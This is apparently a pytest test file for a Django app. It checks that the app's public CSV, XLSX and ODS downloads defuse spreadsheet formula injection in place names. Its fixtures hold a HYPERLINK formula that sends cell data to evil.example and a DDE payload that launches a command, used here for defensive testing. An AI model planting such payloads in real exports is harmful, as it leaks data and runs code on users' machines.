"""Public observatory downloads: a commune or perimeter name made of a formula is inert."""

import datetime as dt

import pytest
from django.urls import reverse

from cvv.observatory import services
from cvv.observatory.compute_service import compute_indicators
from cvv.observatory.models import DataImport
from cvv.territories.models import Centralite, Commune
from tests.observatory import files
from tests.spreadsheets import FORMULA, column

pytestmark = pytest.mark.django_db
D = dt.date(2025, 12, 31)
COMMUNE_PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&B2,"Aulnay")'
PERIMETER_PAYLOAD = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(tmp_path):
    aulnay = Commune.objects.get(code="93005")
    Centralite.objects.filter(commune=aulnay).update(nom=PERIMETER_PAYLOAD)
    Commune.objects.filter(pk=aulnay.pk).update(nom=COMMUNE_PAYLOAD)
    x, y = files.lambert93(aulnay.mairie_lon, aulnay.mairie_lat)
    path = files.write_parquet(tmp_path / "stock.parquet", [files.establishment("93005", x=x, y=y)])
    done = services.import_file(kind=DataImport.Kind.SIRENE, path=path, vintage=D, synthetic=True)
    assert done.status == DataImport.Status.SUCCEEDED
    return compute_indicators(reference_date=D)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
@pytest.mark.parametrize(
    ("level", "payload"), [("commune", COMMUNE_PAYLOAD), ("centralite", PERIMETER_PAYLOAD)]
)
def test_public_download_neutralises_names(client, poisoned, fmt, level, payload):
    url = reverse("observatory:download") + f"?niveau={level}&date={D}&format={fmt}"
    response = client.get(url)
    assert response.status_code == 200
    content = response.getvalue()  # a streamed download is read once
    names = column(content, fmt, "nom")
    poisoned_names = [(value, kind) for value, kind in names if payload in str(value)]
    assert poisoned_names, "the payload row is in the export"
    for value, kind in poisoned_names:
        assert kind != FORMULA and kind == "s"
        assert str(value).startswith("'")
    assert all(not str(value).startswith(("=", "+", "-", "@")) for value, _ in names)
    # The indicator columns are still numbers.
    if fmt != "csv":
        assert {kind for _, kind in column(content, fmt, "annee")} == {"n"}
